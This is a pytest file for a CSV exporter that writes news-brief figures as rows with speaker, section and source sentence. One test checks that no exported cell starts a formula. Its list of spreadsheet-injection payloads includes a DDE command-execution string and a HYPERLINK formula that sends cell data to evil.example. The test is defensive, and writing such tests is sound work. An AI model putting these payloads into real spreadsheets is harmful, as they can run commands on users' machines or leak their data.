"""The figures of a brief as CSV: each with whose it is and where it stands, and no cell a formula."""

from __future__ import annotations

import csv
import io
import re
import sys
from pathlib import Path

import pytest

from briefing.exports import ExportFormat, export
from briefing.exports.table import COLUMNS
from briefing.models import Brief, Commitment, Figure
from tests.exports.words import saying
from tests.render.factory import flood, ridge
from tests.render.hostile import STRINGS

OBEYED = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff]")
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "-",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "\x00=1",
    "\x1b=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
)


def rows(brief: Brief) -> list[dict[str, str]]:
    table = list(csv.reader(io.StringIO(export(brief, ExportFormat.CSV), newline=""), strict=True))
    assert tuple(table[0]) == COLUMNS
    assert all(len(row) == len(COLUMNS) for row in table)
    return [dict(zip(COLUMNS, row, strict=True)) for row in table[1:]]


def test_each_figure_is_a_row_with_whose_it_is_and_where_it_stands():
    made = ridge()
    found = rows(made)
    assert [(row["section"], row["id"], row["as_written"]) for row in found] == [
        ("bottom_line", "b1", "four days"),
        ("obstacles", "o1", "6 to 8 kilometres"),
        ("outcomes", "u1", "14"),
        ("outcomes", "u2", "at least 40"),
        ("outcomes", "u4", "about an hour"),
        ("outcomes", "u5", "Between 1,200 and 1,500"),
        ("forces", "f2", "some 900 fighters"),
        ("conflicts", "1", "25"),
    ]
    assert [(row["id"], row["also_in"]) for row in found if row["also_in"]] == [("u2", "conflicts/1")]
    assert found[5] == {
        "brief_id": made.id,
        "article_id": made.article.id,
        "article_title": made.article.title,
        "article_url": made.article.url,
        "published_at": made.article.published_at,
        "section": "outcomes",
        "id": "u5",
        "also_in": "",
        "statement": "Lantern says 1,200 to 1,500 people have left the upper villages.",
        "speaker": "Lantern",
        "speaker_kind": "organisation",
        "commitment": "reported",
        "as_written": "Between 1,200 and 1,500",
        "value": "",
        "low": "1200",
        "high": "1500",
        "unit": "",
        "of": "people who left",
        "approximate": "false",
        "sentence": "13",
        "quote": made.article.text[slice(*_span(made, 13))],
    }


def _span(brief: Brief, number: int) -> tuple[int, int]:
    sentence = brief.article.sentences[number - 1]
    return sentence.start, sentence.end


def test_a_figure_is_cited_by_the_sentence_that_has_it():
    (row,) = (row for row in rows(ridge()) if row["as_written"] == "some 900 fighters")
    assert row["sentence"] == "15"


def test_a_figure_that_several_parts_tell_is_one_row():
    made = ridge()
    first = made.outcomes[0]
    again = first.model_copy(update={"id": "u9", "text": "Fourteen were wounded."})
    denied = first.model_copy(update={"id": "u10", "commitment": Commitment.DENIED})
    made = made.model_copy(update={"bottom_line": first, "outcomes": (first, again, denied)})
    found = [row for row in rows(made) if row["as_written"] == "14"]
    assert [(row["section"], row["id"], row["also_in"], row["commitment"]) for row in found] == [
        ("bottom_line", "u1", "outcomes/u1 outcomes/u9", "reported"),
        ("outcomes", "u10", "", "denied"),
    ]


def test_each_value_of_a_conflict_is_a_row_with_whose_it_is():
    (row,) = (row for row in rows(ridge()) if row["section"] == "conflicts")
    assert (row["statement"], row["speaker"]) == ("the number of dead on both sides", "the Defence Ministry")
    assert (row["value"], row["sentence"], row["approximate"]) == ("25", "6", "false")
    assert (row["of"], row["commitment"]) == ("the number of dead on both sides", "reported")


def test_a_brief_without_figures_is_a_table_without_rows():
    assert rows(flood()) == []


@pytest.mark.parametrize(
    ("number", "written"), [(240, "240"), (-3.5, "-3.5"), (0.1, "0.1"), (1e21, "1e+21"), (10**18, "1" + "0" * 18)]
)
def test_a_number_is_written_as_one(number, written):
    made = ridge()
    figure = Figure(as_written="x", value=number)
    force = made.forces[0].model_copy(update={"strength": (figure,)})
    (row,) = (row for row in rows(made.model_copy(update={"forces": (force,)})) if row["section"] == "forces")
    assert row["value"] == written


@pytest.mark.parametrize("text", [*FORMULAS, *STRINGS], ids=range(len(FORMULAS) + len(STRINGS)))
def test_no_cell_begins_a_formula_or_holds_what_a_terminal_obeys(text):
    found = rows(saying(text))
    assert len(found) == 9
    for row in found:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")), column
            assert not OBEYED.search(cell), column


def test_rows_end_as_the_standard_has_it():
    text = export(ridge(), ExportFormat.CSV)
    assert text.endswith("\r\n")
    assert text.count("\n") == text.count("\r\n") == 9


def test_a_figure_that_a_line_gives_to_nobody_is_whose_the_sentence_says():
    sys.path.append(str(Path(__file__).resolve().parents[1] / "events"))
    from accounts import told

    made = told("The army said 43 militiamen were killed.", "Sela Dallal put the number at 11.", outlet="One")
    silent = tuple(o.model_copy(update={"speaker": None}) for o in made.outcomes)
    found = rows(made.model_copy(update={"outcomes": silent, "bottom_line": None, "conflicts": ()}))

    assert [(r["as_written"], r["speaker"].casefold()) for r in found] == [("43", "the army"), ("11", "sela dallal")]


def test_a_figure_somebody_puts_a_count_at_is_theirs():
    sys.path.append(str(Path(__file__).resolve().parents[1] / "events"))
    from accounts import told

    sentence = "Dallal put the front’s losses at nine dead and about 30 wounded."
    made = told("The army said 43 militiamen were killed.", sentence, outlet="One")
    claim = made.outcomes[0].model_copy(
        update={
            "text": sentence,
            "speaker": None,
            "commitment": Commitment.REPORTED,
            "figures": (Figure(as_written="nine", value=9, of="dead"),),
            "evidence": tuple(e for o in made.outcomes for e in o.evidence if e.quote == sentence)[:1],
        }
    )
    found = rows(made.model_copy(update={"outcomes": (claim,), "bottom_line": None, "conflicts": ()}))
    assert [(r["as_written"], r["speaker"]) for r in found] == [("nine", "Dallal")]


def test_both_sides_of_a_conflict_are_rows_with_what_is_counted_and_how_firmly():
    sys.path.append(str(Path(__file__).resolve().parents[1] / "events"))
    from accounts import told

    sentences = "Police said 30 to 45 people were arrested.", "The Bargees’ Union put the figure at about 70."
    found = [row for row in rows(told(*sentences, outlet="One")) if "conflicts" in row["section"] + row["also_in"]]
    told_of = ("low", "value", "high", "of", "commitment", "approximate")
    assert [tuple(row[name] for name in told_of) for row in found] == [
        ("30", "", "45", "people", "reported", "false"),
        ("", "70", "", "arrested", "claimed", "true"),
    ]
